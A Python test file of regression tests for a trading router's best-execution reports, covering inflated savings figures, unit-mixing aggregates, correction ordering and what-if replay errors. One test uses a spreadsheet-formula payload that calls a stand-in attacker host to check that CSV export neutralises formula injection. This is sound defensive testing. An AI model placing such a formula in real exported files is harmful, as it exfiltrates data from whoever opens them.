"""The best-execution evidence where a review found it overstating or misreporting: realized
savings only at the planned quantity, single-venue benchmarks only of venues that would take
the order, the report keeping a correction, sharing venues by notional from complete legs,
a unit-free fill rate, CSV cells that never run as formulas, the executed algorithm's plans;
what-if held to the account's venues, each intent id once, "–" for what was never compared.
Each test failed on the code before its fix (file:function, mechanism, consequence)."""

from __future__ import annotations

import asyncio
import csv
import io
from dataclasses import dataclass
from decimal import Decimal

import orjson

from tests.support.scenarios import make_intent, make_quote
from worker.config import Settings
from worker.domain.models import Algorithm, LegStatus, VenueConfig
from worker.execution.executor import LegOutcome, amend_result, build_result
from worker.pipeline.codec import encode_within
from worker.report import build
from worker.report.html import csv_rows, render_csv
from worker.routing.planner import route
from worker.venues.base import OrderReport, VenueTrade

D = Decimal


# --- helpers --------------------------------------------------------------------------------

def trade(price, qty, tid, commission="0", asset="USD") -> VenueTrade:
    return VenueTrade(D(str(price)), D(str(qty)), D(commission), asset, tid)


def execute(intent, venues, books, trades_by_venue: dict, unknown: frozenset = frozenset()):
    """Route ``intent`` and build its result as the worker does (``build_result``): each leg on
    venue v reports ``trades_by_venue[v]`` (nothing: expired); venues in ``unknown`` report
    UNKNOWN (the late-fill sweeper's case)."""
    plan = route(intent, books, venues)
    outcomes = []
    for k, leg in enumerate(plan.legs):
        coid = f"{intent.intent_id}-c{k}"
        if leg.provider in unknown:
            report = OrderReport(coid, None, LegStatus.UNKNOWN, D(0))
        else:
            trades = tuple(trades_by_venue.get(leg.provider, ()))
            filled = sum((t.qty for t in trades), D(0))
            status = LegStatus.FILLED if filled == leg.qty else LegStatus.PARTIAL if filled else LegStatus.EXPIRED
            report = OrderReport(coid, f"o{k}", status, filled, trades)
        outcomes.append(LegOutcome(leg, coid, report, 5))
    result, _ = build_result(intent, [plan], outcomes, 20)
    return plan, outcomes, result


@dataclass
class Rec:
    """What aiokafka's ConsumerRecord gives the replay code."""

    key: bytes | None
    value: bytes
    timestamp: int
    partition: int = 0
    offset: int = 0
    headers: tuple = ()


def intent_record(intent, ts: int, offset: int) -> Rec:
    return Rec(intent.intent_id.encode(), orjson.dumps(intent.model_dump(mode="json")), ts, 0, offset)


def quote_record(quote, offset: int) -> Rec:
    return Rec(quote.key.encode(), orjson.dumps(quote.model_dump(mode="json")), quote.ts, 0, offset)


VENUES = [VenueConfig(name="a"), VenueConfig(name="b")]


# --- tca.py ---------------------------------------------------------------------------------

def test_a_partial_fill_does_not_claim_savings_against_the_planned_quantitys_single_venue_price():
    """worker/execution/tca.py:_transaction_costs (realized_savings_vs_best/worst_venue_bps).

    Mechanism: the realized saving compares ``net_vwap`` of the FILLED quantity with the
    plan's best/worst single-venue net price of the PLANNED quantity. A partial fill takes the
    top of the books only, while the single-venue reference walks deep into a book for the
    whole planned quantity, so the "saving" is mostly the price difference between quantities.

    Scenario: buy 10, no fees. a asks 100 x 1, 110 x 20; b asks 101 x 1, 120 x 20. Plan: 9 on a,
    1 on b; best single venue (a) 109, worst (b) 118.1. Only 1 unit fills, at 100 on a; b's
    leg expires. Sending that 1 unit to venue a alone would have cost exactly 100 (its best
    ask): routing saved nothing against the best venue, and 1 bp (101 vs 100, 99 bps) against
    the worst. The TCA reports 825.69 bps saved vs the best venue and 1532.60 bps vs the worst
    (more than the 846.74 bps the plan estimated for a full fill).

    Consequence: clients and compliance see large realized savings on executions that
    mostly failed; the report's "realized saving" means are inflated by every partial fill.
    """
    intent = make_intent("10")
    books = {"a": make_quote("a", bids=[(99, 5)], asks=[(100, 1), (110, 20)]),
             "b": make_quote("b", bids=[(99, 5)], asks=[(101, 1), (120, 20)])}
    plan, _, result = execute(intent, VENUES, books, {"a": [trade(100, 1, "t1")]})
    assert plan.best_single_venue_net == D(109) and plan.worst_single_venue_net == D("118.1")
    assert result.filled_qty == D(1) and result.tca.net_vwap == D(100)
    tca = result.tca
    # One unit at 100 is exactly what the best single venue alone gives for one unit.
    assert tca.realized_savings_vs_best_venue_bps is None or tca.realized_savings_vs_best_venue_bps <= 0, \
        f"claims {tca.realized_savings_vs_best_venue_bps} bps saved vs the best venue on a 1-unit fill at its best ask"
    # Against the worst venue the real saving on one unit is (101 - 100) / 101 = 99.0099 bps.
    assert tca.realized_savings_vs_worst_venue_bps is None or tca.realized_savings_vs_worst_venue_bps <= D("99.0100")


# --- routing/planner.py --------------------------------------------------------------------

def test_savings_vs_the_worst_single_venue_are_not_measured_against_a_venue_that_would_refuse_the_order():
    """worker/routing/planner.py:_plan (savings_vs_single_venue, worst_single_venue_net), and
    through it tca.py's estimated/realized savings.

    Mechanism: the single-venue benchmarks are every quoted book that is deep enough
    (``planned_lots <= cum[-1]``), priced on the market's finest lot grid; the venue's own
    ``step_size`` and ``min_qty`` (its lot rules, which the router itself obeys for every leg)
    are never checked. The "worst single venue" can be one where sending the whole order is
    impossible.

    Scenario: buy 0.5. Venue a (step 0.01) asks 100 x 5; venue x (step 1, min_qty 1) asks
    150 x 5. The plan: 0.5 on a at 100. Venue x refuses any order of 0.5 (below its minimum and
    off its step): the only single-venue alternative is a itself, so the saving is 0.

    Consequence: the plan claims savings_vs_single_venue = 3333.33 bps (worst venue net 150),
    which the TCA copies and then "realizes" in full on the fills: a saving against an order
    that could not have been placed. Any expensive venue with a coarse lot rule inflates the
    headline savings figure of small orders.
    """
    venues = [VenueConfig(name="a", step_size=D("0.01")), VenueConfig(name="x", step_size=D(1), min_qty=D(1))]
    books = {"a": make_quote("a", bids=[(99, 5)], asks=[(100, 5)]), "x": make_quote("x", bids=[(98, 5)], asks=[(150, 5)])}
    plan, _, result = execute(make_intent("0.5"), venues, books, {"a": [trade(100, "0.5", "t1")]})
    assert [(leg.provider, leg.qty) for leg in plan.legs] == [("a", D("0.50"))]
    assert plan.worst_single_venue_net in (None, D(100)), \
        f"worst single venue net {plan.worst_single_venue_net}: x cannot take an order of 0.5 (step 1, min_qty 1)"
    assert plan.savings_vs_single_venue in (None, D(0))
    assert result.tca.realized_savings_vs_worst_venue_bps in (None, D(0))


# --- report/data.py ---------------------------------------------------------------------------

def test_the_report_keeps_a_correction_even_when_its_earlier_version_is_read_after_it():
    """worker/report/data.py:build.

    Mechanism: ``by_intent[res.intent_id] = res`` keeps the LAST result read for an intent,
    whatever its ``version``. An older version after a newer one is expected input: the
    ResultBook (worker/service/results.py:ResultBook.add) documents "a republication of an older
    version (after a worker's crash)" and keeps the higher version; `sor report --jsonl` takes
    several files in any order; `sor replay --mode republish` copies a range after the fact.

    Scenario: buy 2 on a and b; b's leg is UNKNOWN, so v1 shows 1 filled (partial); the sweeper
    finds b filled: v2 shows 2 filled. Records read as [v2, v1].

    Consequence: the report (summary filled qty, fill rate, TCA, venue share) shows the
    pre-correction figures: less volume than the account actually bought, while the sor api
    answers with v2.
    """
    intent = make_intent("2", intent_id="corr-1")
    books = {"a": make_quote("a", bids=[(99, 5)], asks=[(100, 1), (103, 5)]),
             "b": make_quote("b", bids=[(99, 5)], asks=[(100.5, 1), (104, 5)])}
    plan, outcomes, v1 = execute(intent, VENUES, books, {"a": [trade(100, 1, "t1")]}, unknown=frozenset({"b"}))
    assert v1.filled_qty == D(1)
    late = [LegOutcome(o.leg, o.client_order_id, OrderReport(o.client_order_id, "ob", LegStatus.FILLED, D(1),
                                                             (trade("100.5", 1, "t9"),)), o.latency_ms)
            for o in outcomes if o.leg.provider == "b"]
    v2, _ = amend_result(intent, [plan], v1, late)
    assert (v2.version, v2.filled_qty) == (2, D(2))

    data = build([v2.model_dump(mode="json"), v1.model_dump(mode="json")])
    [record] = data.records
    assert record.result.version == 2, "the report shows version 1 (before the correction)"
    assert data.summary()["sor"]["filled_qty"] == D(2)


def test_venue_share_counts_fills_cut_from_an_oversized_result():
    """worker/report/data.py:ReportData.venue_share.

    Mechanism: the share is summed from ``result.fills``. The worker publishes results with
    ``encode_within`` (worker/pipeline/worker.py:publish), which cuts ``fills`` to a prefix
    (``fills_complete: false``) when the record would exceed SOR_MAX_REQUEST_BYTES; fills are
    ordered best price first, so the cut drops the venues that filled at worse prices. The
    legs (``legs[].filled_qty`` per venue) are always complete but are not used.

    Scenario: buy 40: a fills 20 at 100 (20 trades), b fills 20 at 101 (20 trades); the
    record is encoded within a limit that keeps a's fills only.

    Consequence: the venue-share chart and CSV give venue a 100% of a volume it executed half
    of; b's 20 units vanish from the evidence while the summary still counts 40 filled.
    """
    intent = make_intent("40", intent_id="big-1")
    books = {"a": make_quote("a", bids=[(99, 50)], asks=[(100, 20), (105, 50)]),
             "b": make_quote("b", bids=[(99, 50)], asks=[(101, 20), (106, 50)])}
    trades = {"a": [trade(100, 1, f"a{i}") for i in range(20)], "b": [trade(101, 1, f"b{i}") for i in range(20)]}
    _, _, result = execute(intent, VENUES, books, trades)
    assert result.filled_qty == D(40) and len(result.fills) == 40
    from worker.pipeline.codec import _RECORD_OVERHEAD, encode

    # A record limit that holds the result with a's 20 fills but not one more.
    limit = len(encode(result.model_copy(update={"fills": result.fills[:20], "fills_complete": False}))) + _RECORD_OVERHEAD
    value = encode_within(result, limit)  # what the worker publishes (worker/pipeline/worker.py:publish)
    published = orjson.loads(value)
    assert published["fills_complete"] is False and {f["provider"] for f in published["fills"]} == {"a"}

    data = build([published])
    assert data.summary()["sor"]["filled_qty"] == D(40)
    share = data.venue_share()  # by notional since the fix for the next test: 20 @ 100 and 20 @ 101
    assert share.get("b", (D(0), D(0)))[0] == D(2020), f"venue b's 20 filled units are missing: {share}"
    assert share["a"] == (D(2000), D("0.4975"))


def test_venue_share_does_not_add_base_quantities_of_different_assets():
    """worker/report/data.py:ReportData.venue_share.

    Mechanism: ``qty[f.provider] += f.qty`` sums the BASE quantity of every fill, across all
    symbols in the report, then divides by the grand total: 1 BTC and 1000 DOGE add up to 1001
    "units". A report over more than one symbol (the default: a time range of the executions
    topic) ranks venues by how many coins of any kind they filled.

    Scenario: venue a fills 1 BTC/USD at 50,000 (USD 50,000 executed); venue b fills 1000
    DOGE/USD at 0.1 (USD 100 executed).

    Consequence: the "Venue share of filled quantity" chart and CSV show venue b with 99.9%
    of the flow and venue a with 0.1%, the reverse of where the client's money went.
    """
    btc = make_intent("1", intent_id="btc-1", symbol="BTC/USD")
    doge = make_intent("1000", intent_id="doge-1", symbol="DOGE/USD")
    _, _, r1 = execute(btc, VENUES, {"a": make_quote("a", bids=[(49_990, 5)], asks=[(50_000, 5)], symbol="BTC/USD")},
                       {"a": [trade(50_000, 1, "t1")]})
    _, _, r2 = execute(doge, VENUES, {"b": make_quote("b", bids=[("0.099", 5000)], asks=[("0.1", 5000)], symbol="DOGE/USD")},
                       {"b": [trade("0.1", 1000, "t2")]})
    assert r1.filled_qty == D(1) and r2.filled_qty == D(1000)
    share = build([r1, r2]).venue_share()
    assert share["a"][1] >= share["b"][1], f"USD 50,000 on a shown as a smaller share than USD 100 on b: {share}"


def test_the_summary_fill_rate_is_not_a_sum_of_base_quantities_of_different_assets():
    """worker/report/data.py:ReportData.summary ("filled_qty", "fill_rate").

    Mechanism: per algorithm, ``filled / ordered`` sums ``filled_qty`` and ``total_qty`` of
    every executed result whatever its symbol, so the intent with the most coins (the
    cheapest asset) decides the algorithm's fill rate; ``filled_qty`` is a sum of BTC and DOGE.

    Scenario (both sor): buy 1 BTC/USD, fully filled at 50,000; buy 1000 DOGE/USD at 0.1,
    nothing filled (FAILED, it still has a TCA). One of two intents, and 99.8% of the notional,
    filled.

    Consequence: the summary reports a fill rate of 0.000999 (0.1%) for sor, and a filled
    quantity of "1" that mixes units; the per-intent fill rates are 1 and 0.
    """
    btc = make_intent("1", intent_id="btc-1", symbol="BTC/USD")
    doge = make_intent("1000", intent_id="doge-1", symbol="DOGE/USD")
    _, _, r1 = execute(btc, VENUES, {"a": make_quote("a", bids=[(49_990, 5)], asks=[(50_000, 5)], symbol="BTC/USD")},
                       {"a": [trade(50_000, 1, "t1")]})
    _, _, r2 = execute(doge, VENUES, {"b": make_quote("b", bids=[("0.099", 5000)], asks=[("0.1", 5000)], symbol="DOGE/USD")}, {})
    assert r2.status.value == "failed" and r2.tca is not None
    rate = build([r1, r2]).summary()["sor"]["fill_rate"]
    # Any unit-consistent aggregate (mean of per-intent rates: 0.5; notional-weighted: 0.998)
    # is at least one half here.
    assert rate is not None and rate >= D("0.5"), f"fill rate {rate}: 1 BTC and 1000 DOGE summed as 1001 units"


# --- report/html.py -------------------------------------------------------------------------

def test_the_csv_does_not_write_an_intent_id_as_a_spreadsheet_formula():
    """worker/report/html.py:csv_rows / render_csv.

    Mechanism: intent ids are client input (an Identifier: any visible characters, 1-128) and
    go verbatim into the CSV's ``key`` column of the shortfall, savings and worst rows. csv
    quoting does not neutralise a cell that starts with = + - @ (OWASP "CSV injection"):
    Excel or LibreOffice evaluate it as a formula when the compliance team opens the file.

    Scenario: an intent id ``=HYPERLINK("http://attacker.example/?"&A1,"open")``.

    Consequence: opening sor-report.csv runs an attacker's formula (data exfiltration via
    HYPERLINK/WEBSERVICE, DDE on older Excel).
    """
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    intent = make_intent("1", intent_id=evil)
    books = {"a": make_quote("a", bids=[(99, 5)], asks=[(100, 5)])}
    _, _, result = execute(intent, VENUES, books, {"a": [trade(100, 1, "t1")]})
    text = render_csv(csv_rows(build([result])))
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row[:3]]  # figure, series, key: text columns
    assert any(evil[1:] in c for c in cells), "the intent id is not in the CSV at all"
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, f"formula cells in the CSV: {dangerous[:2]}"


def test_the_report_shows_the_executed_algorithms_plan_not_a_what_if_plan_of_another():
    """worker/report/data.py:build (plans), with worker/cli/report.py:read_jsonl.

    Mechanism: plans are indexed by (intent_id, round) only: ``plan_rounds[intent_id][round_no]
    = plan`` keeps the last one read. The README says ``sor replay --out`` output "can be passed
    as is" to ``sor report --jsonl``; what-if writes one round-0 plan per algorithm for every
    intent (sor, split, best, in that order), all with the same intent id and round.

    Scenario: an intent executed with sor, reported with the what-if plans of sor, split, best.

    Consequence: under "Plans of the worst intents" the page shows the ``best`` algorithm's
    what-if plan as the plan of an intent the router executed with ``sor``: the evidence
    links an execution to a plan that was never made for it.
    """
    from worker.replay import what_if

    intent = make_intent("2", intent_id="wi-1")
    books = {"a": make_quote("a", bids=[(99, 5)], asks=[(100, 1), (101, 5)], ts=1_000),
             "b": make_quote("b", bids=[(99.5, 5)], asks=[(100.5, 2), (103, 5)], ts=1_000)}
    _, _, result = execute(intent, VENUES, books, {"a": [trade(100, 1, "t1")], "b": [trade("100.5", 1, "t2")]})
    plans, _ = what_if([intent_record(intent, 2_000, 0)], [quote_record(q, i) for i, q in enumerate(books.values())],
                       VENUES, [Algorithm.SOR, Algorithm.SPLIT, Algorithm.BEST], None)
    assert [p.algorithm.value for p in plans] == ["sor", "split", "best"]
    data = build([result.model_dump(mode="json")], [p.model_dump(mode="json") for p in plans])
    shown = data.plans["wi-1"]
    assert [p["algorithm"] for p in shown] == ["sor"], f"plans shown for a sor execution: {[p['algorithm'] for p in shown]}"


# --- replay.py ------------------------------------------------------------------------------

def test_what_if_routes_only_on_the_venues_the_account_may_use(monkeypatch):
    """worker/replay.py:run_what_if / what_if.

    Mechanism: the worker narrows every intent to its account's venue allow-list
    (SOR_ACCOUNT_VENUES; IntentService._apply_allow_list) before routing. what-if calls
    ``route`` with the intent as published and every configured venue; ``settings.account_venues``
    is never read, so an account restricted to venue b is routed on venue a too.

    Scenario: account "acct" may use b only; a has the cheaper book.

    Consequence: the what-if comparison (cost vs sor, savings vs the worst venue, unfilled
    quantity) and the plans it writes (--out, --to-topic) are for executions the worker could
    never have made: better than any real routing of that account's intents.
    """
    import worker.replay as replay

    intent = make_intent("1", intent_id="acl-1")
    books = [make_quote("a", bids=[(99, 5)], asks=[(100, 5)], ts=1_000),
             make_quote("b", bids=[(99, 5)], asks=[(101, 5)], ts=1_000)]
    answers = [[intent_record(intent, 2_000, 0)], [quote_record(q, i) for i, q in enumerate(books)]]

    async def fake_read_range(settings, topic, rng, label=None):
        return answers.pop(0)

    monkeypatch.setattr(replay, "read_range", fake_read_range)
    settings = Settings(account_venues={"acct": ["b"]}, max_quote_age_ms=0)
    out = io.StringIO()
    captured = []
    real_what_if = replay.what_if

    def spy(*args, **kwargs):
        plans, summary = real_what_if(*args, **kwargs)
        captured.extend(plans)
        return plans, summary

    monkeypatch.setattr(replay, "what_if", spy)
    asyncio.run(replay.run_what_if(settings, VENUES, replay.Range(), [Algorithm.SOR], None, None, stream=out))
    [plan] = captured
    assert {leg.provider for leg in plan.legs} <= {"b"}, f"acct may use b only; what-if routed to {[l.provider for l in plan.legs]}"


def test_what_if_counts_a_duplicate_intent_once():
    """worker/replay.py:what_if.

    Mechanism: every intents record is decoded and routed; the worker executes an intent id at
    most once (worker/service/dedupe.py:JournalIndex.claim: a second message with a known intent
    id is a "duplicate" and is only counted). A client retry or a non-idempotent producer's
    resend puts the same intent twice on the topic.

    Scenario: the same intent (same intent_id, same key) at offsets 0 and 1.

    Consequence: ``summary.intents`` and each algorithm's ``plans`` count it twice and its
    savings/cost-vs-sor figures weigh double in the means; --out / --to-topic get two plans with
    the same plan_id.
    """
    from worker.replay import what_if

    intent = make_intent("1", intent_id="dup-1")
    quotes = [make_quote("a", bids=[(99, 5)], asks=[(100, 5)], ts=1_000), make_quote("b", bids=[(99, 5)], asks=[(101, 5)], ts=1_000)]
    plans, summary = what_if([intent_record(intent, 2_000, 0), intent_record(intent, 2_001, 1)],
                             [quote_record(q, i) for i, q in enumerate(quotes)], VENUES, [Algorithm.SOR], None)
    assert summary.intents == 1 and summary.plans == {"sor": 1}, f"intents {summary.intents}, plans {summary.plans}"
    assert len(plans) == 1


def test_the_what_if_table_does_not_print_zero_cost_vs_sor_when_nothing_was_compared():
    """worker/replay.py:WhatIfSummary.table.

    Mechanism: ``statistics.fmean(vs) if vs else 0`` prints 0.0000 for an algorithm with no
    intent comparable with sor (never the same planned quantity), i.e. "exactly as cheap as
    sor"; the savings column prints nan in the same case, and the HTML page prints "–".

    Scenario: split planned on 3 intents, none with sor's quantity: vs_sor_bps has no split entry.

    Consequence: the printed comparison (what ``sor replay --mode what-if`` ends with) claims
    split costs the same as sor when it was never compared.
    """
    from worker.replay import WhatIfSummary

    summary = WhatIfSummary(intents=3, plans={"sor": 3, "split": 3}, vs_sor_bps={"sor": [0.0, 0.0, 0.0]},
                            savings_bps={"sor": [30.0, 31.0, 29.0], "split": [10.0, 11.0, 12.0]},
                            unfilled={"sor": D(0), "split": D("0.5")})
    [split_row] = [line for line in summary.table().splitlines() if line.startswith("| split |")]
    cost_vs_sor = split_row.split("|")[3].strip()
    assert cost_vs_sor != "0.0000", f"split row {split_row!r}: a cost vs sor of 0 that was never measured"
